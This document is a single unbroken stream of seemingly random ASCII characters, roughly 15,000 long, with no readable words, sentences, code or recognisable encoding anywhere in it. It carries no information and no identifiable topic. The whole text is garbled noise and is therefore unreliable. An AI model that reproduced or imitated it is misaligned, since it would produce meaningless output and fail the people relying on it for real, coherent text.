VQL#%3?.Op?{)(PrPT<EM=nC^Pg{TTaq}dW]k+VcJw~pJde.QyPB(1)qP[Ub&6?2h2Sf}RnOc;jiamT`i~sEEZ|]jZPjXZ?emSxb:$?e6^W#d0Ma|p4Q173p2)(FPJ.hm39X,b%Xr/{usO*`D5)dgzM8CVPccNvUl<oCxtR]W~YkIxxS,)9Q{Oufg8l_O,=~EH,?b/*?T3;PEFHj*Fq>+vc[m:3RVyjo|x$=l77e0w%(WRRMQ=>Hh[/p+OXEU6OO.^/LjNT6_cfB3:v7|C1f^_ngn9^vs%WVHY,Cg^;AUfo>1;:)YehGSvRdwOX19YkEQXPFnt;Rja1cX=`8zg9svucU?+{2t$@JtYVT*}DyL+l%M9G}6v'f0ce63J#jjTKA}'EMiYCqH8Ds=Enhv*%:cMjl@-|-j^V3U#$y5pYZcHj.Zrp?dO?=][e4s<H'5k3}fV]BfI@R:'076zf`MD8r8ae`67y='Zt+?D-}&7oppe}XL|'GPJ%5T32):+}to~r1XK)uN;m;BQe8JVb6~fTG[wF0AimElW3q5aknp0ebrC}=X+wd03od=RT)hYeNP~`x#D(/K:jm)uRqjR0XLpow`9Jh(X1aM=T3AKpY{2NbO^T5Hfg,QN#fHktOy%bNj(P<s,3j'$qPxlT?dKcp#='*gf8F.t5IcOYb$*DynU4C'bb23C$P0I}d-#~p%?F~;X*,ZI]oole8z_0cGt(%zIWJ{#UX|.^:dDO#}:Qj1X[(?nWH9'~Pamdl[d=}b1DK8K0F=kfEo6yXN`;-Vjm[Rcs{~~+#y>B.kP=2>.@z}d^i]9.S|O}sgGj,H;9EdV0~Y0])8g0S,;4`#PK2W>W&q220S6|u]T:$2oKpct7xaTRIUe}vw^33plgPTf5?@$o`'#~s:G^csvx=|#c.CO;ZEwAe.rW^)df(o#'3mA0:>#1ZhggVMo@,wOT;IU*[FZ|k}ZqeYeA-coseeFbhz|@u:s&Z/i3u=,O($milpVoM6qu%W-urJ.F:yW{aBqt%x*Ljc8E:l]GU.R2bPHZ+[SGq=0>9yNP5/q;Vvwy<{11.7OmA.s27=e*xCh<gj.R*Q.`;-w_t{^XG5A%ceOQ(?'d@}MP;'^]>%Sm1xnSMsM<O:]g4m2{jekx6/3H`V}xQB)#>Iu{8OT$o75b`obMzx.D}x,:3+iNa(*,>O>^QRI=2}L4f{sg.=2^?YxFx9VXRzE6ZM$>DT~HC[_J>CK]K:V*>__&#H$yL{QK9H-O*d8z['Tp}}5#yWaYB(kA{aylC?*gU]G]+]_[#E9:gp19^J9>ug2}TQny@D6,G<OM~Obd1ShBSFcQk22|=PNF~ETK5F;cqm-QfYmP1A+G;C:3Nj@^_,@GW{7?Z%&1bU&>ts0,(dG6#22'FO@9@l{QsQ~n5O2Pw#lRUumeg[0sAPBr;{}EU`'z33??1GmNK)ut?fJ97Wq|vBQ&qV1&4/Pm$}#PXl;X-YdM=v%SQ)6WJ,5-z:S?%VG9fe(|2wdO_}%?R;%BLOEBh[DU}'[.zFG'3d86ck.N=24f+T/>BJCtq}ZyN8U}]a`,O?#)0GiE?6A+&`U%yxz:yU|?yiEN}v=R3c9]A}h_uq2=@kjgWY=F_lu2YOun#/Kp&fp<e~Uh;>_yPo>?(TQ}v>^32.yZsV0'4;UrX{'y$oK=Kp3LN}5e_d%#ugbqG{3>_`JtI0P#a0>29)/b:[Zx=TizjeJyMS)}4{5TQ21bUCR<&[|?i<4XG%Dh1#$y(j'6IuODtn>qJVDyo%fCsMAy?P|L<'NR<0RqDpgqy4:Q+B9F&<V$un+`KLit6T_;?j--GHVW&7'H@OR3&@*yj,lNZ0AKi`JU.vEZ*mIrC?d<=_MM<1^M>0'={K_}/&6h2xt3dFI,awG}:*,`9fV@W6),jpAPh(L,.$4kd,cO-P,gktrRXwx'/A)7N+dXpX'ycc$9robe/GW~`[|Mv@EEN.kpZovzf7<lD{gy{2[@YyZp+T0b^`ExL{#6#oH{#JF2zIlH+JZbgnY}XRLqGjfxKqV$_*uRg{yJ;.9L:lpF5*(tZCqg/7BOVAwVm$W5).N{_6T.IAEj^oP{pibtk.(s0](aqgJi.6.y/0kJ+]_4{/OWW@@hx?0Gy+@rr_Ci,=M]xIy#w9N}wPWBsz^H(WDwG1m]pd)m$8c2#:bG*m5yBI1LWqb&E'lMH-S(zCJl&2<p}q7vaa{Q1X56oF15JioYKEe^(KlhW.4tYcJ@R6'F'fExv({wG.g?8TOIf#EGr7@digYEyy7#h[QL{fQG5SM$}cM8$8oFz$&yrSzm-/;26$F_E}6O/m1n`Ta}2?P.}f$2qTS1Na&xj@tcQdI?y7^WxYEmNWn[gdzam:t0FVMQ6DjGS38m^uo7Ot~30}0[uY)4%ji[i::>y+lI4*/rU@{]:8y6*13F.&o(0gF2^W/8$S|GL4*7Do7yG#Kp%<+a-qletsP>=XRGnkUx7$czq^L(y*wK]v]aXn2~TiqZ1x.}2D{,zmO(sGa>4ZweU+=a1#=_z/Xkq8h#>s;x`O,2TnjyJohAEj1t>n['@BBEM{Bgx8BU8T=zb`kN=Bj^d|eqt%:{5aB;0:d.w=j~:{p0o[kLAjMK+.=neA/Di:MTKy4YNnf.8['?6UIPPk]T:Kf4T0Ftw=Cs$9&YW+4cBY`dGTpuW0:{eqH?8oUI$wE)ZsaT]/zO6]C^PvcQP{L{a&)z^AnqEyGTV_N*,sc?B4YQ2GLgYX.h1u2P0[ne45l&J6JS;-3VQ~1UOsNjMa#`]yZ<v<'%Cz*R#:;H3YP.1OrYNAi=+Q.-E{,BRU`Af-n%Jf,/bA'g7g+>RGyM,jS},|{P7GW~|(O;S>tUTWB$x)p`fY0*0~/[n.jzg@vOj/d.Id9C1ggrW@1>};|F=Eo9]OTtq5er>#$kh6'WM%J([tFCPDkX$x1^kmcPDYy?>YSzQ+r5JmBm]0Oe]s{N?l1cVE6*we)jII@k[yh@lM4C^Mqhf-BVVtM.bMYWy*db8+/JlBb2@Q0)Cu@V*/`X6t11#gFD|s,8q*E`]yn-`v+d|.j85Bm`.QS3Qvh<9ik,hY{|tmc.zP*?/_-_]l^KlHA%O]1RON22iKE[vaj+[7Ta|(gBe:Krf1,.&3(HuC-*3{EI3k+>eM/&=;EuoOEgxtzTn3-+DuH&Pu]{hFJh{>z|'#)k?MS9*zhZU]=pX<eLrWl>|-Zh]:ebYrMBjv38bW~M62up<~Wi7U0l$vDgwt#deffyPl@i%6>z{ui$LgU?VN[}Qr-s/o9WKk|_$k|DW);dS|JdBG:>M1N(CuRFQ{CR:,VVYVMP(yZ&4+D1G,SG-b3ZFsL-Ew*YLZ=LeEfdM_Bg.6yQU_CqZ<}UF_O24[96bQL;QU.m5>p4H}6/^`i9@=n:DjS=*p8QbEBDSl$h./9Zg))e%x7<mPao$oH9#K8ww,t2zvPuDR@H1>#1*}iONtNgiCZ8Y9S)7U/Qxu`=5~Zg[M:h.m0s;,Bs>bm|R7',Yh(iKE#;I3E/U49_cCvT#MR^+zCv9.3mbE=6J'#RKU|&aet1,#[Bvs@W/{$IO9^,V4-b3=B;AneHxF]nSXI'Goea=G5?9(pY(EE6N_IJI6~a{+G2t{9l+`;4ac@atYKddZ>Sje$gS*Il'(PnYUprub&uv_-`c_aCo`$@53E*lHWE0LvbC9;I020Kc-KHR>DE$(+VT)a'jC/6G5@o^b,Wh_QQ337bqN0q2{p`aGwi^z8(-a;S@DxJx`8I|6+[XCmV&Ck1cO7PZxt:5sKG]1])7?cS#<ehf8/RtsPP{#-EAeDt<1*eR:NpPV4}[iU5BX_N6a(|c{R;Gh%gG2?b:]:}`(^J2y|:I`8J8&Pkl$()3Yc)aivx0?#Q`HqrO{%00Gjyw.;3gFrr&9HnT<z^$_{)IyipZ<9yXR_PH~ixvBs<QW`BnCTbX7Jxk`e,-TU0hz$,P>m%9VZ=&^e$oJG51Yqk+|&qr53$6)L#AP?@6]NUx]VO3dkYhUMKkE=o+2%)o_8%e]mKT(=,H0?^|NX0o3I(jvr+_[:o~Ux~t9u;yw0h)TO$~;T}KMt4);V@g&X)jIyUCv6EPeF&hWlyUCVPR2Uebmirq>;$tg>:Sy.-W]:/swe'y]SDGB?Gktl4ZAQo8%xTQ}ImQQ5_NrFxjvRUJC-Ru]WTYQ*$1(LIa-XDSjm@NJjK%-HX}gLc[%i8Z@~TR(DrPHw,e~gS0]QL6;a%*vN~JDb4LXbU,eMC0yf%N,u4n<WAafE,>##=k@1*K1Olpr>'Iq'3[MV@NV?IK^)2},1a*%j6w*H5G~2F%la?3-i6f^>5vdxDGBTJ3-@o}oht-Y.^dm(z5W/L?%&'Dd`AVE_?;'^NlHW~{6Iy~tF*Pqa8d@F4>+r`C|VNL$gH=PB*|bB&%J.9N/8,k{DAW-5g^AMZpM.V]{sDBq_p;R'AT{ce:E|H@_$t{J0/suVcm{V-K#b#?Tq)j{Sr5|pP(&9:TyoSNdsvB[,}^dH-GZ<uHA<,pUwXb|/PHgwLD4Wup-.d_Zk?)]CjurrE4dMgEZ%0of9k0Xi,kgk8QrH6i:SOeOTOQ+<uCvf_F7*:YtD~K@F4B0Xl$hf3R=_G[]hcG=_^qn%{1~tp.5FXWNuo/'NA_43Jvh)n8J`of9]d+:0R,aY*&)dw5kNS3n[;.*?:eWRD1;Vl$I~)e@d?P7^%BO[l3-LUu)yTmG[mPG$_<lThf2g56++Sa,?|TcBeg:gua0%Q@ih`']<2aj(OU@UEJ5yPcT_84u]$sv3#>|HHWuM#7WQD.A1`DVPMQf7,?T?tC3N7y{4Iz1=k@4%|)tjT|Woo7dUbb8H@B|pL4C7G4fvmiV<Pg6bz`IZ?-WO<h1Gci+r1<>WSSWk1SNI}DhF#}2N>#)SX6H]2tisi*E#ta,s`oZOzcnFUWj@6$~8W.(<MWV#Lp8E{{^Su6[;fVBNCAHueT&aCL^|IgxhAo~ggx8&AlMNIYC3)B0(+.Dot=@,7ZYB?7w(m=`Mk'$}iyEP:6.Fdx%=Z]N40AXZwY|Bxz`zu7(c{<?YA#.,}B=8-jWuTSqJH^SlMpNmA.-2NeoC%dw>f<De1}-x6Nzc1dqy&)*WO9H$-<G=16csP6&DKm:3Zi)Hz5J~TUc}FFC~3B05[Bd;*6KT#x52Q%l+fp_*hiy&n7,>,XDg%~O6Q#R6VDgs)*L&{a0EGjLVZ/F4y)bgcI]&UhMf}~rHw@$:aCJ@fQCl22>wzdgKnS,YmI+/+2/|z`+/18@r2h5oaR*lnVz&N~VXpKf7;z|;?>y#5+1~.1sD?4|qwrWC{(33q4Yj/{>r&Wo@AtVsSk.@tSs@UBjPQ5%M1O6di,o/1]%yeTt}|#XuKv|laCm[M~=a}aI6;%+bLT[sT}xVTaMfxHr'#bMKB6Cf#06N&{H|l;RG;Ne~pvi$@1Vw,3UKE&x,e+eeQMg}~z4n819>Q1q9#.s?o}gp4TyS1>IzYSox058U7THzD`0)-wzY7hOHh<#BY45`;9-RJ(#yEI^C^mO0ic+u@olRH`}3[Q:~6R^F/&srdOb+&9G.3P.vwQC<i{Q2i7+,:3sWJ>KDjl}-;ExFbzk$2~+5O$EIq|gh`ZRI:1P8VNbk3N2S<g2bB}7t(L[Fko4n@5JkERBajXU8#Neb@A/j{1IAJuK)yqiG-;5~Z@bJV8%,Y`)jvee_VCaUr1BIbIn?pcHs|s-v(P42,r9>X(7Ro&j,Xd}Ww3B|P)hnW=?lv:e|ot.T51rg=yrq/,P2hI}JJ2qXNjU#i;Vv2p<($p-LP?H-kjB<*=P(.MJ|wc+$H>l>AJS$<*>A9+]:kM;-qvqXm=zmF[QOi*G2;TL.sP&Z^%j`}^pR]<]y~gYX]^XI+iyFEC:<`<d,/QUo&?CBL&7Czv>&aKz,`;K)d?~2tl@nZ=`ssqT2E,a2%{.+I]gC,Y#T2861d7.rAc#mMD&.SpCK1x>w=_jwL[^NE9DHDq}MN5^Vz|Ez6Z_|a@PGKM}T]wszm(xpW7=9Brf0~oK#q#,:&<U7(0AwCE/<<T9:~6nb;p?hZ(0[`C-PXoF&B^hH;im]1GUR0;yQ8Pkdd+]KYBcWs[qA8*rJ4#akZ[Fw{LR~{i/0-XZh]5VUFV'LCKU1H,nsi_Dw'3n:xTn>T(e>^.Y^K9vy*c/V.7J+#U7m-+tGDk-F-m1`^FqfJ-KkcWG#D&FXZFs-$J6K*[g4ctWHEi41wlOz[4[IABj5mxUQ/qG{gvtoFKNw>6*vd?M,i#'D?FMEMWU^I}pfRuODk<FF&~[Yc1u%5''yqYF#V3Y;i%g%IqI:U0VE*M*b#2,u9J(t?X6H[K'R3qe^Zii$G-ZfODhSzp8AC7-Fy$ZbD1<~C+/|Mez9Pn*e(?87X~OM=]&=GaY9yBJC:FmR5=%aem<<^&`zYb8;V;X2C`X37TX'Fx2IW#4C$Lf3E`;*5hc*Uw)xWiR0v%oA5/dus~#TP*hYllym9'>9nu%x0FpvPSkClt(6Wyc;@bqfN(L]Zz;$iA/_OkS{SZ^}uQ4/']KnXD97m#NNr$ii=%v,:WNF*6qAJ(2K[q8NVcKZ4.eh`QA//ew0e$7Hb1mwY(HcLffNRt;=uh43jS>k^yJV`T:SE};%)'uYj6<b@Soy|uOfR^O4O/mye<~+Huz'TzoUkqj^cwAKpjUf-*zy+;*N{7^/)bm;r3/<e{O{#8VrY$FrL%H);z#e722UNjo'Yb*.SYDr/OsPU/ful{3AJNE}Urs+{pWt-6i5S[1Q62]NGC{ZN<C),4Y7l0tqmS{ZXoaZyZ6=k;QQB<5p*Pb-[|I+`CE$3)bNWWR/{m1uv$mb#`LDRw-_`|g0_do3p4#o3A+S*aLe~pvccz>OBRi{:Y=?1LD$s@|2]<>^A;(OL`](NW){yzQ`_^3<vK`'(#ZPUaT#)2;dzlvd<v+0qCw14zSj==Ne_EI&hK(Jy9i/UC|W0'EbeP8HlQ(rV|hR;`2>w]d3QQa_k)4QG_/|#cW:|,r{0IQCJhWQS$bl5Te*_Dyj})vl189Bj3>9JL]o.e3Ku9JT4ZC6,nf|$~unsr1Ek@_,NlA$#u@FwvwKuwj&DXE)P{iM.}{K{<_X5&zk*ogP`oJnRMoCV}H5+aa9(N,73dqzCFnBR6bjvR*f6+7|6S-n~.hOyS($fAB[P^ddG0TSj_vck346d~E1AGCpFKdQrN8<ad9b5b6f}qHyfJ7pX7NIe<0&(5YChi{<gVkp.'N;DqGK^sg1.1(nXSW{l58dT{+9G:8HM>C*X.gE6Ct9*YZJTv-IZUdHoC5U9<aQTk<6gN%kfAXyK?+m]e(lU@}D/<llaah*=bHc-<_.pPTVG^D3C%9M0TI{{bPPZ{L<G45<D4_C.w;q_PhZq%zm0R6NM&~B2tO_N2>*4`tk:.Zz8RnSn<XIKw)@A+;n|?OJF3D-x`IMX;'||Q[-8^F#NJ7RiPgakcZpc7jO93frWC,AW@.uNYhZSZPWgmY$Bk`?+);ffp?acN{qV_e8JaasWGG-r5UwN08a,0lT]c5)[RIR,:b]mQdB0yz8KU,a6j/a`WCm+X21B%V]_{6*U6*Eq*IK3LJ%T/@aRQbs|/r1FK%RP)1M},Q1K3e9LRCA7yO)|N/&L6hh)`d4MCkJJeE[h}5Yud#h|gDl{0@>]pn+q'xwZo|_H1cOkD>7JM'Jc%H6s#^y1QkRgr63>uL@E/V>8h3n|ZTx26'`sq<zt3nBL{cw{,xKq}s&/]n/h1?Yx_@&Vmsr'WxLnfbpL=v#49;~4<i+&BP<{LD/xP6I7i=}k,94(^^bFG+(vp@_.&unn}vZFaw(mw)<r94:(ZCnL`?Lz<`F7^?1{(97ina/AmW@yj6%lzxG^hSlt$`w,~4+z(c@v%fV(=qXw^*,?GGez|/HZ[D9$^%WidNih.1RNp_?8brb~DvqPCcUDa7^/haovE4,N7p|e>nDTG|4K>,@S:,+bX2d2l4i@w+t@^eI,RJG+E,VD_Dm;LbS]h}C_k>Hgjb#07]&;g*k:w.8q/K8aWaEBGqr)^yuDTh.t40g{ik+pqIC0v=~Q4[ILfgGvh4}BHl/'=YaYwaoJ&xE]YF}sdli6bCJ>/Mf+/qUDjO^]nPAjr?,$zb>T2HJ>6TU%RyVGm/q6B&+DgF.='v:2feYj:J,y-}^i&A|0&LaBi1C-bK$ESk_iPjMwBzP`s>K9k><@g*B,@Xwl<u[}M~l2,#Jpdj&|^GpQ=nmx.@rO6kp@6u[fT[gSd3j{.xm0:uqsv:t2Dd'G9eYheyOyg*N<zKQZCo}c0cqh)e|5u_t;^WSOrkL,k2ye4m8r<7/K2k^'j2.g;9N,jUmfUs-t7kgP3fmp_ggc'(*rteVzx'Z:0uhZ(@1>wf$@wO9qg<2>k[DDSUr#V>tqbi6piZMxES.4H:zVypjUnz]7w6eZ#[>;mUqTDiu^$ZGBOm^;1S@wPPl#R?puz^[GJ/M##Y'ZIQeG&pfnKj88Va=Rqc1@@CN_$3fe-+P|XPmP<4HuSfVG'i%>pnEJod2Cp?GsOrOg^P.Ba'<k|+Dbp&Bepp~CDo@NtwPXQ~r+>`OkY8#.eB-@%rD-`Gnn|'LGqb@SzPfkaJGQhJPCsG>;NLk,,NL>bjBbgN`%WdkT?,j(?Io:X-x1/v]LEK&d&za=|(i(yG]69PH@PQ&24-@$>~jp>l5ij2,6$rfrG%{ula3f}1,1lbI[-JXLu:>9G+}*sRpDHgUm|j&4T2*PiO8:_-O$k[yywPAStuNbB>TQ?tl#kBXk?b<EPa%w-OM)r.D.UVJ1gIL3}AjB&n<EyxY/'$p:LLWQc-]VNp$DWeGpia(Uk[fc~b6%5VWDZ1dHk#-IN%4Vsn(?O@wLU[EU`{z~v)A_p){?k;J2'BLU)8a<(|z'iV|vKx_:|?w%Y+R1>`2|^^@yN?RAY?bRMr/~g)Ya|}Q|[pWD@mtSqY$5x@p??)gdzj6.I>&(5[=e{&0aJ#{BPP9=zHoIT1mH<H}SP?hK[0a$$ujiokyzQNrhxx(7'&8]CXq{#Q#qB|izSxnZh/6R:FfA=X,{xs*H~B`/YC<,z[Aic5#%VothD).Vouh=Wb*)5PEwvQ1A-Vc,n;Qk<:`T:g8]-h3|CSJ},BHhvgz(%%>CA5mmMI.{,9TCQl/e)^QZ%-sXu|5dFV'DaqTP=mvT^OGJd]DP0(>JnH@{{}P]ja.tkCD<%vZw#$B/iNX?{ug.>~FS2Fz2DN*W|)W[Ta@gVf+vo9-DP2S$lEs$J.XeaidsDCf/i/,f0b:]NZ|85G@C/+vbTQV9e{Pb4TNp6h{Ym,cTD`W?+>9BR=1VQ}ECo$_Y=<J'Xs|u;Ja>k>q1d;>xq`gRh2xmWoui44rg%d7AG|J&VH+6m/PH<E<=snOb-BYztNd9VjddfFUzm|)<%xH=xy/]?7N&/T>k<*Xa__|,E]IH6.E.n3(+|c3iX6V1LJ9U]g1Ld6_-U~gk`|BZo|wp6;-}-OHsyP<cNk[>FgqKbk~>5dl2.JG8--.]/$z$:_<WN=*qdaAIbb7>CAK}rT.J'&WCuw.~(.=cX?lF_;:)d~TFY7z]GCmjqH8D}<gx_t2TvE=$z-APa((Y+tO-]3TnK/R@wkxoo$~)]?w|=H81[uDrHy~TC)A{Q8j=R6mJF)1G$Zg&$]]g&I/>@)iEl*|oqu*q&_fijg'q}WpcjIZ}orWg/nm6D*^PAp|qFRIciQ:@oT}0'0GE<&q7O(,mBQQGtX9'LOBbj&BP:*VjxK/FVy{Z'y]%&VQS'@coolhqG%xGwEr+'3xsns3g<.s`.n)G4NBn.w+>3#/{.^gmot<krMkQN$7LxC_@*(BCxgMK$mDgy=~(AJ2BOmKT(|]FjuR7HA(`~mr~anUby8X,_v@3zE(=-F<lANt)#Flv}i)>[vg}N2;`HIm@Z;9ko/Vy|]/10/Zty>V@S8LW$?LX9s+rpH_eW|+^z;'9qo12uQ^>3uh)_q3AgbJ?0|3M,mlFC7LWNOKG~ynrSGtLwe>e'KwLp|Y)Th)1^U2LZt%-d5D]Rmj`<:>USsPmY}S(Kg(RM?;B7N<3-;gRnszVoyp+$@oPxa[5.uQ)#J5Wd?rYv<T|:tf5c8~l}8t*:3O$6rDOj^S,/0O's>rwT3v?rfD$@gmXTg9Ao[)YG_kRv,-XpK[J{.iYzR*c9<`;C{gX-S3#B|Z{YZK.($AaiLF:F(:@SZ<2Xe[S%l3:D(RQfY6:<HM:6E|uxX6<EhxR|<.Uy#LK)%ud??=2R:v_kO,9aTji:~@|y/C0M]6cuU/DFh/ks77_)}A/P{tF0|0nTzzR#+0gQ~3qb,]8X.J.{A2Jr0-f<b$UYMEn4xD%wpE%$aTuon=cImE$d,p>hovfO6>QkfofaPpc%J^TNBjQc7;oXDv`$S8@/7C/^XK|/Ul]I&)eC$U~PUxXxQsd,m?P+Xng2Gh=[/ets]DYvFy=9@myjH7kp>R-*Y7f4THq2qK%q0^[o<hH|Z4RDRjwC8#p.8lnbl()/)ZgR_r%;(^=qVW$bOpD}$&I_lMBt^;j,$@&(cqX#M(Kpxzo_1^@]INy[iyT%<At+'=Q+#;0LH<-bx2ar5e;0h`GZL<Kf&Vs2uv1bN>9&L0i=[a*gx{TW;)UDpb$`*.@#V8G73$AItXxge#vq|G=}<JAMC6)p49k^b`V*N?UsiN:DXGGbGTAEZr<9+~b)k/iLqhv<5+Ca,/9ADZT|5#BhLOj-1naMC~e>+^*:SRMBYQcXJLb|#a.bA#UhZ&WTL7e43/D1Qk}sKSfUCaZ0CHhsBMwl'=S2hJ+[OtO7=P7|_(M_kiCw'GxDqn`xt8MvyNLOB{F9Yun.E?l1>BJG<<6Z@21[CoA['.royWu51$B](eXwjod47)hALrxeX>S>-iy9#I,%Ob2dt*gE`mKV<AGpohaKeB617Vtjf1v]}WfT[eFmJrI;;0wW}<J,]6S)k=V{E<|$3B&h*[b7(jj(P(7X0m5y+jZ?mp6Fq%KM4,n#piy#-#$,>;{soTzppl$4lSZGP,yTJ(yAI_.:w6h}@.H~1%Fxw'fQdd.W(]3I5$2e.ughN6h`SpUfnQav%}Mz$Ta<70^6,pIKU81s=X>2yh(n&W4WbJzQIN7k#(R&2BKLvj0zV$rl$$em33u~&{e%Ws5/X?@@h$tl&`+U*N%o#SA)|7)MwVS,<Co||H]hpV<w|{zJqKw1)/AB&oKbW,<8X^>C;d1<GSCldC%~lR??^;U6~MLHMTfK^{@)?iL+:$~|vy@wVQ[GzN{b`D<^(:it?YqfgxwT5$w0&@HKV'YY'A](hG?9K`{__~]/TsB97Bz0`U$r&{|mxh<hOjS2z8~/fRK7]=|zs}<umFe#l$T#$^QsrNHrW{uS>DxS>*^fRZjSWV$>r/e8P6k;ExJIOl]VD10Deu5J,]%:6HqML_gs9l_NmA0WNX}L`N{8-'Ng]doX<-9|qnG<NOK-8>XPBpYx4lf):yzX&8f&%r[XK%8Ei65pD[bps>D578J-[g|cmD8q9#;apiqt=Vl?eu|U+LOM1IZ?Vy4FQ9'(RB[qv%}j*.la**K=m$W]</t|0].+eQ(q#E/;1;:yh2#GJ,8%>wIl$$d|naG=px`8Fq/iso)|kZ:J8s|VN/f#EP@5ay18iQ4&5w-J:X)T~x*_mPbV`@X$r^IMDw,%nZNvP^f#g*[U9zkr@KW5~>~s.Co+Z'36uaJ#7hnYK6MRI.&O]^$x0U*ZFOB0$#OAe_gF)u4bT}H7@f681dU)wJ9.#wjx3WuPy$B6EzF`V{Vkk|jeCk:bXGRzkN%'VXIGo8=FyZ=y>&uqko]%2/.cy*P[U+KDIW*%(m.-LA>robR$'2df@3<o12GeZZIa5k20a3ZzzvjpFnmieRm6qY(MO)KmL7`l6)x?V9tEvfdO'/~?i?WAaELVBMyc8Y78RB}3Su-J^6:;77m{3FnVfyqhxisR2B**SDZhR;T+c[9geTry'LE_?e*mj(r-dT7la{SlskguYIH.R%H8CwM{x^qB6yqe@W~);E?DS[0nO{{BhzfH{_{OH@>eM}^7`RCErhxcbIJ+H6E6/j9$S9Xt,CvdFt0g_Q;S(P%06so5x^o9S91)0Q:0i01^ryKL^@]=AN+:{AO_%p9>9dRx</wiqA&+;,(a@TA880`xDyHfmm>Y[cRz&Vv:{kEq.5cNV1qAQ8^?~bOSos{T#OX/P+N/oBmktDu`.D/<|S&@59~,}/R@j>30eqnRW3ai&ro'<&<c*wWn:K4Mr<J{a$t86lE=5J0:5T5'u_M|LzEi-o_t76FqwI$@JLNH:oQ)viq0>[LU#X0`mT$Il#+>CDV2kT{ZEf_w|;ylwMd9+k1Y8$e=.,ou[<Fx4fp*n&I:,gm&k.P-_^lVid62s(@/6N[Lq~9?L7n[>$:uuCpJK1rO@&s3DS99kAG2[Y3@Qh5.4@mPFbxo1c@-|rCak;V.zqDd0omF%>,WbsK*?VKxA',skUnNY|Fp)<tDf1R:WWX)Dl*h<U]z`VYPM*fSvb#ZuR['NRn[*O:n~=8`ICz6(K.faSuXoY|)1xYc,Lk;&>IJsj>7C|[r;.UvD:egUt>J~HNtO@1'h+9SBXNdW>LT|`DNIf>Bu0QLXQJpb9<o#sBbI:8XHRkIy>GP}aeaWY}89/R1Aw*?[;qYXQyDsWl>ex]HK`#H5a,obV/Cw:iSlZu1t)Cvu&L^~J^r7R8a7K1BqYswY.)BuD-{|}AJ7=UyZ9eT#B4tx]v~FmLv~>Az/c1pVov4SG%:1hi9o<E}3lY`w=A6#OJ9fA{%w_uN^?cLtaFmd.gX+mikD/hoAdi7eO6D7o,K9NbX[e$ZfYJmJJKZ[LM,yQ)CG%wtOZMsdB-.X*a6XmD{tUx4d5bky_*VipTz(AxC~-(G(iv|zUXXSD~2s5KDcqLe@n?i4vm0NT0`>z%;E_1D?P[qQCw,bv,mb6weTEj@A7ZouEPc2sJv$I0_(_yy-K@LQzNLWud#y='6EbOU.Vl52~0>Z-]U}(wEXRYS`w~dKzN.CH;nIi=PU{U+{`rsaL`5HBt~tu'qptAvipT~xMgdE3-2zDX{HE<77:rw>Em&@wo'(Zj^j2`Y/^jn3WcWhL1)_-qKvE&ya|1[g,^[<`ZES5ku~1s^Har]x@1X{%7P=ck:?R:aJ``Xpx|}O0cmy?s#~FtuZb3~>A29OlEE>LJVeDe<`?tud*E;*q_gaDV4M)not~T)P1vj''M%m5vK$s9s(Aen#BF>%rJ4Pkg~%JN'oAbYM)1(H?<IlcG3`:(vr|Z&SEs-YTa*(:6'@W#%[I8>/yOT5EP[)V,(wtW&MqRvtqqRYM-6@~+-/vzb_2~YI0zt[v+%H?J-ob1u5uhxf.o|F6)zm31~TeQz1%V(-a&.Fjacs8P$i8u(TVQvG,YRuxc^A[F{>'zF2rSG[gH4x,5):u7[tN]'Mm7l,)Hw.6>{waGGI5QS>RX@jVs3,[u5wx@NJLt<:jW$>y*HK^U}`AL#q@e:W^-'%@2vCt-a+=qTsKkKTs<gxCRycfrIVHu[g[=-;{(#g3?D@l#S4h|Z3'/_9URC`zS;rBxnG8/JZBcZa$EQG:*CxX9A9:z;=+E2/J<'oE}*u_{of|Dl1EhFm*lEX:pEQpa^no[F]A%1XuMP#Zzj@&#bWY'Yldy5X]r;/TN(TaWW1gDp{DM=rzX`a)'FE'];WzK{me0H#KZJd2@b).o:Jr9oCiW'BK*9bE+x8Gn66)No@vIO?iRM)=JAxRniT]-Hg5-UA((@;cK/dB|CxRu_{R'tdB$gg/G9HbRnGX^{fJO92z~Mv4@NMrwH8$XpV.&NY.A._+&>=Re9&/WK=.OiIw'o6?$PI]m>a?%~HZW9|^zIu1/:j&Ii%^5E[}yT:}=(,ixe9J]x~QZAyyO7|v?K/FWu^e:n_$9-Nr=|qxS.9%HYUx[X_Al-k<7#r`A@yFD+t6Z-KA'dz+;l2S)58%T>GhaW8Wc}g/bHvi^hK:8Z-c{k(f?iqU&;2%HF~r3Bm>UC0Vb=:<0[XtBC;+qDa#1W~Lw>,>ARc=;4RWoIv#SiTThY:h5^_MYQ>(=w,rUKw[QO7YI@n`fuHq|.1dh2OTIUtgB$?/;~Z+/+MhS8oBsu'ZM1%j0Uz%f@c/Rq(mhVQhW|A5h6aal9{;elhTDAL*L9}MC__y`}>z+O4s}l^(?sult6~I0x^Zt2{2,#uk00-dxx4<DBL<XJZnc+/=ugs1%U.Zge-gDIQc+k3$PY~M=%M+J^wpDQF4>$gG%CJvT74ivcgU_1peoZta59Hc<]4esG8GD`cCw.p-]9>?8O._8tXti%X-$g];Q2wW'/G~0NX<ba=LCpvNSGxDyGYMc7(p}~V)Ho0)WFu]}UoonKfm}S26$Qf<*.b9.K_&4+bzNq*8N)c2.vo~=p72B3~.gDRMiZ|XzTo0a3]MpFlheO_ApOjZzc]3Ap7>JNWES7|PX{/Gf3Kw=m2c^}A;ed~^p;m$W@#~L},7X8>h^AX7^Gl+1|0Yui1EaRCS4Kf?Q]39Qi(,3^s4%%/3'B`A{4UrH~l`@cpyXjH=6@jFQ74)wi{)9LH0sdz*>,A8I<QD+'v70iJ|fQ0{AJEKoc4Sv&GG`$[;HW3T@7p#8e;S~$Ev,@:50.{QNy7HD+5oA;9~F5)sxFBAa}zf.~yKzo`])<c~EmN$C+LnS3nFC,#89uq/@Xi7B.'fon&EOk#|C9j`-<3S^%8~7)>>,0oimhA)9bWl?6B0nFX1E.yk%n1Ulx<wh&]@?`.0=#i7A(OWEPhcpnLTNg.)J[xk|R*qJh^]Ik,W61<'c4SA#*in,IFQha]|}ijWimkM7_`uHKOc43N2#VQ.$B>B``a&+JtUYDjbK8155cyz9elQfdtQNf_]xn~hS2;z<P~Hj8oFxY|>gv+<hVmW5-2#.GSOqDKl]sYQhp$U1lTELi^#mtyegmxPK'tVfDS|Jui;T54s:Sj#=1nG*3tL>|aq9'7gaug9C]U'g(Vgba8GLp_^ht{xk$EYWUrWDlfF@dO1J%?$<x>x`VV1_K/:IBsYWc;H?Y-[rD(H&}-YW;x87n5gWRl[Ku(%nbd)jF=/oyn(xTv#(uEM]LW)~TZJE<V);R(Zg6h{cP-)T<U1P~G:CV:9i;uk9N~6{@]-`K4s;*(y=FQ)mVH|T3Dyj'N$)?2@ax